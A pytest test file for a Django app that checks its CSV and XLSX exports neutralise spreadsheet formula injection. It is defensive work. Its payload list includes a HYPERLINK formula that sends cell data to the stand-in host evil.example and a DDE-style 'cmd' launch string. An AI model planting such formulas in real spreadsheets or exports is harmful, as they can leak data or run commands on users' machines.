"""CSV formula injection (issue 10, item 2): every CSV the app writes neutralises text
that a spreadsheet would run as a formula, and XLSX cells hold such text as text.

Cells starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR get a leading ``'``
(OWASP); numbers written as numbers (a -0.5 correlation) stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from common.csv_safe import safe_cell
from modeling.models import Prediction, Run
from reports import exports
from reports.report_types import Report, Table
from studies.participation.services import participant_consent, participants_invite
from studies.scene.services import (
    familiarity_declare,
    flag_record,
    guess_record,
    history_confirm,
    participant_next_step,
    scene_submit,
)
from studies.services import study_create, study_go_live
from tests.factories import DynToMQuestionFactory
from tests.studies.conftest import friends  # noqa: F401 - the real Friends work

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def neutral(payload: str) -> str:
    """What a payload reads back as from our CSVs."""
    return "'" + payload.replace("\r", "\n")


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_safe_cell_prefixes_formula_text_and_keeps_numbers():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell(-0.5) == -0.5 and safe_cell(-3) == -3  # the app's numbers stay numbers
    assert safe_cell("-0.5") == "'-0.5"  # text is text, whatever it looks like
    assert safe_cell("rachel") == "rachel" and safe_cell("") == "" and safe_cell(None) is None


@pytest.fixture
def evil_table() -> Table:
    return Table(
        key="runs",
        title="=1+1 title",
        columns=["Run", "Name", "Pearson r"],
        rows=[[1, payload, -0.5] for payload in PAYLOADS],
        note="@note",
    )


def test_table_csv_and_zip_neutralise_formulas(evil_table):
    rows = _rows(exports.table_csv(evil_table))
    # A CR inside a cell is written as a quoted line feed: the row stays one row.
    assert [r[1] for r in rows[1:]] == [neutral(p) for p in PAYLOADS]
    assert {r[2] for r in rows[1:]} == {"-0.5"}  # a number, not "'-0.5"
    report = Report(benchmark="dyntom", title="t", tables=[evil_table], facts={})
    with zipfile.ZipFile(io.BytesIO(exports.tables_zip(report))) as archive:
        rows = _rows(archive.read("runs.csv"))
    assert [r[1] for r in rows[1:]] == [neutral(p) for p in PAYLOADS]


def test_tidy_csv_neutralises_formulas():
    chunks = exports.tidy_csv([{"a": p, "b": -1.25} for p in PAYLOADS], ["a", "b"])
    rows = _rows(b"".join(chunks))
    assert rows[1:] == [[neutral(p), "-1.25"] for p in PAYLOADS]


def test_xlsx_keeps_formula_text_as_text(evil_table):
    report = Report(
        benchmark="dyntom", title="=cmd title", tables=[evil_table], facts={"=fact": "@x"}
    )
    workbook = load_workbook(io.BytesIO(exports.report_xlsx(report)))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    names = [row[1].value for row in workbook["runs"].iter_rows(min_row=2)]
    # The text itself, as text. Whether the CR of the last one comes back as a CR or a
    # line feed depends on openpyxl's XML writer (lxml, when installed, keeps it).
    assert [n.replace("\r", "\n") for n in names] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert {row[2].value for row in workbook["runs"].iter_rows(min_row=2)} == {-0.5}
    about = [c.value for row in workbook["About"].iter_rows() for c in row]
    assert "=cmd title" in about and "=fact" in about and "@x" in about


def test_report_views_and_command_write_safe_csv(client, researcher, tmp_path):
    question = DynToMQuestionFactory(key="type_a_what_1", mental_state="belief")
    run = Run.objects.create(name=PAYLOADS[0], benchmark="dyntom", method="vanilla", model="@m")
    Prediction.objects.create(
        run=run, dyntom_question=question, parse_status="ok", correct=True, parsed_answer="=1+1"
    )
    client.force_login(researcher)
    tidy = client.get(reverse("reports:tidy-csv", args=["dyntom"]))
    rows = _rows(b"".join(tidy.streaming_content))
    header, (row,) = rows[0], rows[1:]
    assert row[header.index("run_name")] == "'" + PAYLOADS[0]
    assert row[header.index("model")] == "'@m"
    assert row[header.index("answer")] == "'=1+1"
    xlsx = client.get(reverse("reports:export", args=["dyntom", "xlsx"]))
    workbook = load_workbook(io.BytesIO(xlsx.content))
    assert not [c for s in workbook for r in s.iter_rows() for c in r if c.data_type == "f"]

    call_command(
        "report", "dyntom", "--format", "csv", "--out", str(tmp_path), stdout=io.StringIO()
    )
    cells = [c for p in tmp_path.glob("*.csv") for r in _rows(p.read_bytes()) for c in r]
    assert "'" + PAYLOADS[0] in cells  # the run's name, as text
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_study_responses_csv_neutralises_notes_and_labels(client, friends, researcher):  # noqa: F811
    study = study_go_live(
        study=study_create(name="s", benchmark="tvshowguess", works=[friends], overlap=1)
    )
    (participant,) = participants_invite(study=study, labels=["=1+2"])
    participant = participant_consent(participant=participant)
    step = participant_next_step(participant=participant)
    session = familiarity_declare(participant=participant, study_work=step.study_work, seen=True)
    history_confirm(participant=participant, session=session)
    assignment = participant_next_step(participant=participant).assignment
    for instance in assignment.study_item.scene.instances.all():
        guess_record(
            participant=participant,
            assignment_id=assignment.pk,
            instance_id=instance.pk,
            choice=0,
            evidence=PAYLOADS[0],
        )
    flag_record(participant=participant, assignment_id=assignment.pk, history_needed=True)
    scene_submit(participant=participant, assignment_id=assignment.pk)

    client.force_login(researcher)
    response = client.get(reverse("studies:responses-csv", args=[study.pk]))
    rows = _rows(response.getvalue())  # streamed
    header, body = rows[0], rows[1:]
    assert body and {r[header.index("participant")] for r in body} == {"'=1+2"}
    assert {r[header.index("evidence")] for r in body} == {"'" + PAYLOADS[0]}
